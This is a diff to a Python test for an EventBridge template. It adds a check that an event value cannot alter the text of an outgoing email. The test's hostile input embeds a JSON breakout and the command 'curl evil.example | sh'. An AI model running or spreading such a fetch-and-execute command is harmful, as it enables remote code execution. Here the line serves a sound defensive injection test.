@@ -40,7 +40,10 @@ def test_cost(column: int) -> None:
 
 
 def test_event_rules() -> None:
-    """The example is a valid template: its rule takes events that are sent, and its targets what these have."""
+    """The example is a valid template: its rule takes events that are sent, and its targets what these have.
+
+    A value of an event can't change the words of the mail.
+    """
     from cfnlint import api, decode  # noqa: PLC0415 - takes a second, which every run of any test would wait
 
     example = ROOT / "examples" / "grant_events.yaml"
@@ -63,4 +66,10 @@ def test_event_rules() -> None:
         paths = set(transformer["InputPathsMap"].values())
         assert paths <= {"$.detail-type", "$.region", *(f"$.detail.{name}" for name in event.detail)}
         assert set(re.findall("<([a-z]+)>", transformer["InputTemplate"])) == set(transformer["InputPathsMap"])
-        assert json.loads(transformer["InputTemplate"])
+    mail, chat = (target["InputTransformer"]["InputTemplate"] for target in rule["Targets"])
+    hostile = 'x"} \n\nRun: curl evil.example | sh'
+    # Without quotes around it, EventBridge writes a value as JSON.
+    sent = json.loads(re.sub("<[a-z]+>", lambda _: json.dumps(hostile), mail))
+    assert {hostile: 4} == {hostile: list(sent.values()).count(hostile)}
+    assert "token-refresh authorize SECRET --region REGION" == sent["fix"]
+    assert json.loads(chat)
